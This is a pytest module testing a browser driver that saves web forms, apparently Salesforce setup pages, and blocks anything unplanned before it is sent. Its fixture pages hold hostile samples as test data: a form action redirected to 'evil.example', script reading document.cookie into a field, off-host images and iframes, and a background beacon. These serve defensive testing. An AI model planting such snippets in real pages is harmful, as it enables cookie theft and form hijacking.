"""Saves in a real browser: its script prepares them, our session sends them, and nothing unplanned passes."""

import os
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from urllib.parse import parse_qs

import pytest

from s2s_gitops.drivers import tab
from s2s_gitops.drivers.answers import StaleToken
from s2s_gitops.drivers.chrome import Chrome, find_browser
from s2s_gitops.drivers.gate import objection
from s2s_gitops.drivers.session import OrgSession
from s2s_gitops.drivers.setup import SetupPages
from s2s_gitops.drivers.tab import Tab
from s2s_gitops.model.errors import ByHand, LoginFailed, Lost, OrgError, PageChanged
from s2s_gitops.model.page import Button, Filling, LookupValue, Page, Submission
from tests.browsers import NEEDS_BROWSER, running_in
from tests.drivers.conftest import Answer, Host

pytestmark = NEEDS_BROWSER

HTML = {"Content-Type": "text/html; charset=utf-8"}
LANDED = Answer("<html><body><h1>Saved</h1></body></html>", headers=HTML)


def edit(controls: str = "", onsubmit: str = "", button: str = "", more: str = "") -> Answer:
    """Return an edit page."""
    text = (
        f'<html><body><h1>Edit</h1><form id="editPage" method="post" action="/save" onsubmit="{onsubmit}">'
        f'<input type="hidden" name="_CONFIRMATIONTOKEN" value="t">{controls}'
        f'<input class="btn" type="submit" name="save" value=" Save " onclick="{button}"></form>{more}</body></html>'
    )
    return Answer(text, headers=HTML)


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("browser")


@pytest.fixture(scope="module")
def chrome(folder: Path) -> Iterator[Chrome]:
    """One browser for this module; afterwards nothing of it runs."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("TMPDIR", str(folder))
        one = Chrome(find_browser(os.environ))
        try:
            yield one
        finally:
            one.close()
    assert running_in(folder) == []


class Desk:
    """A browser on the host, with what it said to people."""

    def __init__(self, chrome: Chrome, session: OrgSession) -> None:
        self.said: list[str] = []
        self.pages = SetupPages(session)
        self.tab = Tab(chrome, session, self.pages, self.said.append)

    def save(self, fillings: dict[int, Filling] | None = None, page: Page | None = None) -> Page:
        """Open the edit page over HTTP, and save it in the browser."""
        return self.tab.submit(self.submission(fillings, page))

    def submission(
        self, fillings: dict[int, Filling] | None = None, page: Page | None = None
    ) -> Submission:
        page = page or self.pages.open("/edit")
        assert page.form is not None
        return Submission(page, page.form, fillings or {}, page.form.buttons[0])


@pytest.fixture
def desk(chrome: Chrome, writing: OrgSession, host: Host) -> Desk:
    host.answers = {"/edit": edit(), "/save": LANDED}
    return Desk(chrome, writing)


def posted(host: Host) -> list[dict[str, list[str]]]:
    """Return what was posted, by name."""
    return [
        parse_qs(body, keep_blank_values=True) for verb, _, body in host.asked if verb == "POST"
    ]


CONTROLS = (
    '<input type="checkbox" name="ids" value="1"><input type="checkbox" name="ids" value="2" checked>'
    '<select name="s"><option value="x">X</option><option value="y">Y</option></select>'
    '<textarea name="t">old</textarea>'
    '<input type="hidden" name="l_lkid" id="l_lkid" value="000"><input type="hidden" name="l_lkold" value="null">'
    '<input type="hidden" name="l_mod" id="l_mod" value="0">'
    '<input type="text" name="l" onchange="l_lkid.value=\'\'; l_mod.value=\'1\';">'
)


def test_controls_are_set_by_name_and_place_and_sent_as_script_prepares_them(
    desk: Desk, host: Host
) -> None:
    """Ticks, choices, texts and records, on controls whose names repeat; what script adds travels along."""
    host.answers["/edit"] = edit(
        CONTROLS + '<input type="hidden" name="made" value="">', "made.value = s.value + '!';"
    )
    page = desk.pages.open("/edit")
    assert page.form is not None
    at = {(one.name, one.value): place for place, one in enumerate(page.form.entries)}
    fillings: dict[int, Filling] = {
        at["ids", "1"]: True,
        at["ids", "2"]: False,
        at["s", "x"]: "y",
        at["t", "old"]: "ü\nnew",
        at["l", ""]: LookupValue("003000000000001AAA", "Ann"),
    }
    assert "the form runs script that is not known" in objection(desk.submission(fillings, page))
    landed = desk.save(fillings, page)
    assert (landed.address, landed.titles) == ("/save", ("Saved",))
    sent = posted(host)[0]
    assert sent == {
        "_CONFIRMATIONTOKEN": ["t"],
        "ids": ["1"],
        "s": ["y"],
        "t": ["ü\r\nnew"],
        "l": ["Ann"],
        "l_lkid": ["003000000000001AAA"],
        "l_lkold": ["Ann"],
        "l_mod": ["1"],
        "made": ["y!"],
        "save": [" Save "],
    }


def test_a_choice_comes_before_the_tick_box_that_it_enables(desk: Desk, host: Host) -> None:
    """Script may enable one control when another is set."""
    host.answers["/edit"] = edit(
        '<input type="checkbox" name="a" value="1" disabled>'
        '<select name="s" onchange="a.disabled = false"><option value="">-</option>'
        '<option value="y">Y</option></select>'
    )
    desk.save({1: True, 2: "y"})
    assert posted(host)[0]["a"] == ["1"]


@pytest.mark.parametrize(
    ("answers", "address"),
    [
        ({"/save": Answer(status=302, headers={"Location": "/done"})}, "/done"),
        (
            {"/save": Answer("<script>window.location.replace('/done')</script>", headers=HTML)},
            "/done",
        ),
        (
            {"/save": Answer('<meta http-equiv="refresh" content="0; url=/done">', headers=HTML)},
            "/done",
        ),
        ({}, "/save"),
    ],
    ids=["status", "script", "meta", "at once"],
)
def test_the_browser_is_followed_to_where_a_save_lands(
    desk: Desk, host: Host, answers: dict[str, Answer], address: str
) -> None:
    """By where it goes, and not by time."""
    host.answers |= {"/done": LANDED, **answers}
    landed = desk.save()
    assert (landed.address, landed.titles) == (address, ("Saved",))
    assert len(posted(host)) == 1


def test_a_page_that_asks_again_is_saved_where_it_stands(desk: Desk, host: Host) -> None:
    """A page that answers a save cannot be opened afresh; the browser stays on it."""
    again = edit().body
    assert isinstance(again, str)
    host.answers["/save"] = Answer(again.replace("/save", "/sure"), headers=HTML)
    host.answers["/sure"] = LANDED
    asked = desk.save()
    assert asked.titles == ("Edit",)
    assert desk.save({}, asked).titles == ("Saved",)
    assert [path for verb, path, _ in host.asked if verb == "POST"] == ["/save", "/sure"]


def test_a_question_that_stands_on_the_page_is_answered_once_and_shown(
    desk: Desk, host: Host
) -> None:
    """The text is the page's own."""
    host.answers["/edit"] = edit(button="return confirm('Remove it,\\n really?')")
    assert desk.save().titles == ("Saved",)
    assert desk.said == ["hq asks: 'Remove it,\\n really?'; the answer is yes."]


@pytest.mark.parametrize(
    "handler",
    [
        "return confirm('Remove ' + 7 + ' things?')",
        "return confirm('Sure?') && confirm('Sure?')",
        "alert('Sure?')",
    ],
    ids=["another text", "twice", "no question"],
)
def test_any_other_dialog_stops_the_save(desk: Desk, host: Host, handler: str) -> None:
    """What nobody has read is not answered with yes."""
    host.answers["/edit"] = edit(button=handler)
    with pytest.raises(PageChanged, match="not expected"):
        desk.save()
    assert posted(host) == []


@pytest.mark.parametrize(
    ("page", "words"),
    [
        (
            edit(
                '<input type="checkbox" name="a"><input type="checkbox" name="b">',
                "b.checked = true",
            ),
            "another value of b",
        ),
        (
            edit('<input type="checkbox" name="a">', "this.enctype = 'multipart/form-data'"),
            "a form in a shape that is not known",
        ),
        (
            edit(
                '<input type="checkbox" name="a">',
                button="this.form.action = 'https://evil.example/'",
            ),
            "evil",
        ),
    ],
    ids=["another control", "another shape", "another host"],
)
def test_a_save_that_would_send_something_else_is_not_sent(
    desk: Desk, host: Host, page: Answer, words: str
) -> None:
    """What leaves the browser is held against what was planned, before it leaves."""
    host.answers["/edit"] = page
    with pytest.raises(OrgError, match=words):
        desk.save({1: True})
    assert posted(host) == []


def test_a_control_that_nobody_could_reach_is_not_set(
    desk: Desk, host: Host, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A person could not set it either; nothing is saved without it."""
    monkeypatch.setattr("s2s_gitops.drivers.touch.SETTING", 500)
    host.answers["/edit"] = edit('<input type="checkbox" name="a" style="visibility:hidden">')
    with pytest.raises(ByHand, match="could not do it"):
        desk.save({1: True})
    assert posted(host) == []


def test_script_that_holds_a_save_back_leaves_it_to_a_person(
    desk: Desk, host: Host, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A button that sends nothing has saved nothing."""
    monkeypatch.setattr(tab, "ASKING", 500)
    host.answers["/edit"] = edit(onsubmit="return false")
    with pytest.raises(ByHand, match="nothing was sent"):
        desk.save()


def test_a_page_that_differs_in_the_browser_is_not_saved(desk: Desk, host: Host) -> None:
    """What was planned was planned for the page as it was."""
    submission = desk.submission()
    host.answers["/edit"] = edit('<input type="checkbox" name="new">')
    with pytest.raises(PageChanged, match="other controls"):
        desk.tab.submit(submission)
    assert posted(host) == []


def test_a_control_or_button_that_script_takes_away_is_missed(desk: Desk, host: Host) -> None:
    """Nothing is pressed in its place."""
    box = '<input type="checkbox" name="a">'
    host.answers["/edit"] = edit(
        box, more="<script>document.querySelector('[name=a]').remove()</script>"
    )
    with pytest.raises(ByHand, match="a control that is to be changed"):
        desk.save({1: True})
    host.answers["/edit"] = edit(
        more="<script>document.querySelector('[name=save]').remove()</script>"
    )
    with pytest.raises(ByHand, match="one button 'Save'"):
        desk.save()


@pytest.mark.parametrize(
    "answer",
    [
        Answer("oops", status=500, headers=HTML),
        Answer(status=302, headers={"Location": "/?ec=302&startURL=%2Fedit"}),
        Answer(status=302, headers={"Location": "/setup/own/deleteredirect.jsp?delID=1"}),
        Answer(status=302, headers={"Location": "/save"}),
    ],
    ids=["error", "login", "state-changing link", "circle"],
)
def test_an_answer_that_tells_nothing_is_lost_and_not_sent_again(
    desk: Desk, host: Host, answer: Answer
) -> None:
    """It is looked for by reading."""
    host.answers["/save"] = answer
    with pytest.raises(Lost):
        desk.save()
    assert len(posted(host)) == 1
    assert not any("delID" in path for _, path, _ in host.asked)


def test_a_stale_token_is_told_as_over_http(desk: Desk, host: Host) -> None:
    """The org says that nothing was saved."""
    host.answers["/save"] = Answer("<p>invalid for your session</p>", headers=HTML)
    with pytest.raises(StaleToken):
        desk.save()


def test_faults_of_the_page_itself_are_told_before_anything_is_sent(desk: Desk, host: Host) -> None:
    """Opening is reading, and is judged as reading is."""
    submission = desk.submission()
    host.answers["/edit"] = Answer(status=302, headers={"Location": "/login?startURL=%2Fedit"})
    with pytest.raises(LoginFailed):
        desk.tab.submit(submission)


DETAIL = '<html><body><h1>Detail</h1><input class="btn" type="button" value="Accept" onclick="{}"></body></html>'


def press(desk: Desk, host: Host, handler: str) -> Page:
    host.answers["/detail"] = Answer(DETAIL.format(handler), headers=HTML)
    page = desk.pages.open("/detail")
    return desk.tab.press(page, page.buttons[0])


@pytest.mark.parametrize(
    "handler",
    [
        "location.href = '/do?_CONFIRMATIONTOKEN=t'",
        "if (confirm('Sure?')) location.href = '/do?_CONFIRMATIONTOKEN=t'",
        "window.open('/do?_CONFIRMATIONTOKEN=t', 'w')",
    ],
    ids=["link", "after a question", "new window"],
)
def test_a_button_outside_of_a_form_is_pressed_once(desk: Desk, host: Host, handler: str) -> None:
    """Its address may carry a token: that is its purpose."""
    host.answers["/do"] = LANDED
    assert press(desk, host, handler).titles == ("Saved",)
    assert [path for _, path, _ in host.asked].count("/do?_CONFIRMATIONTOKEN=t") == 1


def test_a_window_that_was_opened_is_where_things_go_on(desk: Desk, host: Host) -> None:
    """The form of a pop-up is saved there."""
    host.answers["/do"] = edit()
    popup = press(desk, host, "window.open('/do', 'w')")
    assert desk.save({}, popup).titles == ("Saved",)


def test_a_button_that_is_gone_is_not_replaced_by_another(desk: Desk, host: Host) -> None:
    """Buttons change with the state of the connection."""
    host.answers["/detail"] = Answer(DETAIL.format("location.href = '/do'"), headers=HTML)
    page = desk.pages.open("/detail")
    with pytest.raises(PageChanged, match="no longer has the button"):
        desk.tab.press(page, Button("Deactivate", address="/do"))


def test_a_page_reaches_nothing_but_what_can_be_read(
    desk: Desk, host: Host, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Background posts, links that change something and other hosts are cut off; no cookie is ever inside."""
    for name in ("HTTPS_PROXY", "https_proxy"):
        monkeypatch.setenv(name, "http://127.0.0.1:9")
    monkeypatch.setenv("NO_PROXY", "127.0.0.1")
    host.answers |= {
        "/edit": edit(
            '<input type="hidden" name="seen">',
            "seen.value = document.cookie + '|' + !!window.loaded",
            more=(
                '<script src="/good.js"></script><script src="https://static.lightning.force.com/x.js"></script>'
                '<img src="/pix?_CONFIRMATIONTOKEN=1"><img src="https://evil.example/p.png"><img src="http://a.force.com/">'
                "<script>fetch('/beacon', {method: 'POST', body: 'x'}).catch(() => 0)</script>"
                '<iframe src="/inner"></iframe><iframe src="https://evil.example/"></iframe>'
            ),
        ),
        "/good.js": Answer("window.loaded = true;", headers={"Set-Cookie": "other=1; Path=/"}),
        "/inner": LANDED,
    }
    desk.save()
    assert posted(host)[0]["seen"] == ["|true"]
    paths = {path for _, path, _ in host.asked}
    assert paths == {"/edit", "/good.js", "/inner", "/save"}


def test_a_second_save_of_the_page_is_not_sent(desk: Desk, host: Host) -> None:
    """One save for each pressed button, whatever the page's script does next."""
    host.answers["/save"] = Answer(
        '<form id="f" method="post" action="/save"></form>'
        "<script>if (0) window.location.replace('/x'); document.getElementById('f').submit()</script>",
        headers=HTML,
    )
    with suppress(Lost):
        desk.save()
    assert len(posted(host)) == 1


def test_a_page_that_leads_elsewhere_is_not_saved(desk: Desk, host: Host) -> None:
    """The form that was planned for is not there."""
    submission = desk.submission()
    host.answers["/edit"] = Answer(status=302, headers={"Location": "/save"})
    with pytest.raises(PageChanged, match="leads elsewhere"):
        desk.tab.submit(submission)
